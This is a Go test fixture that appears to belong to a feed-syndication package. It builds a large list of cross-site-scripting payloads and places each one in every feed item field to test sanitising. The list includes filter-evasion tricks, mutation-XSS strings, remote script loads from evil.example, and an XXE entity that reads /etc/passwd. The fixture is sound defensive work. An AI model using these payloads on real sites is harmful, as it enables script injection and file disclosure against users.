package syndication

import (
	"fmt"
	"strings"
)

// payloads are ways to make a reader run something, by the place where they strike: text that becomes markup, links
// with a scheme that runs, attributes with handlers, and tricks that hide one of these from a filter.
func payloads() []string {
	list := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</title><script>alert(1)</script>`,
		`]]><script>alert(1)</script><![CDATA[`, `--><script>alert(1)</script><!--`, `</description></item><item><title>x</title>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3C;img src=x onerror=alert(1)&#x3E;`,
		`%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `<<script>alert(1)//<</script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src="x` + "`" + `onerror=alert(1)">`, `<a href="java&#10;script:alert(1)">x</a>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<template><script>alert(1)</script></template>`,
		`<style>@import 'https://evil.example/x.css';</style>`, `<p style="background:url(javascript:alert(1))">x</p>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="https://evil.example/">`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`,
		`<embed src="javascript:alert(1)">`, `<form action="javascript:alert(1)"><button>x</button></form>`,
		`<button formaction="javascript:alert(1)">x</button>`,
		`<isindex type=image src=1 onerror=alert(1)>`, `<link rel=stylesheet href="javascript:alert(1)">`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `<xsl:script>alert(1)</xsl:script>`,
		`<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>`,
		`{{.Secret}}`, `${alert(1)}`, `"><img src=x onerror=alert(1)>`, `'><svg onload=alert(1)>`, `" autofocus onfocus=alert(1) x="`,
		`[x](javascript:alert(1))`, `![x](x"onerror="alert(1))`, "<script\x00>alert(1)</script>",
		"<scr\x00ipt>alert(1)</script>", "<img/src=x\fonerror=alert(1)>",
		"\u202e<script>alert(1)</script>", `<script>alert(1)//`, `<img src=x onerror=alert(1)`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	}
	for _, tag := range strings.Fields("a abbr audio body button details div form img input marquee object p select " +
		"span svg table textarea video") {
		for _, event := range strings.Fields("onclick onerror onload onmouseover onfocus ontoggle onanimationstart onpointerenter") {
			list = append(list, fmt.Sprintf(`<%s %s="alert(1)" autofocus>x</%s>`, tag, event, tag))
		}
	}
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
		"\x01javascript:", "javascript&colon;",
		"&#106;avascript:", "&#x6A;avascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "file:///",
		"blob:https://evil.example/", "about:", "feed:javascript:", "view-source:", "filesystem:"} {
		for _, form := range []string{`<a href="%salert(1)">x</a>`, `<img src="%salert(1)">`,
			`<a href='%salert(1)' target=_blank>x</a>`, `<video poster="%salert(1)"></video>`,
			`<blockquote cite="%salert(1)">x</blockquote>`, `%salert(1)`} {
			list = append(list, fmt.Sprintf(form, scheme))
		}
	}
	return list
}

// xssItems puts every payload into every field that a feed gives.
func xssItems() []*Item {
	var list []*Item
	for i, p := range payloads() {
		list = append(list, &Item{
			ID:         EntryID("xss", fmt.Sprint(i)),
			URL:        fmt.Sprintf("https://wire.example/articles/%d.html", i),
			External:   p,
			Title:      p,
			Summary:    p,
			Content:    "<p>before</p>" + p + "<p>after</p>",
			Authors:    []string{p},
			Source:     Source{p, p},
			Published:  day,
			Categories: []Category{{p, p, "https://wire.example/topics/"}},
			Image:      p,
		})
	}
	return list
}
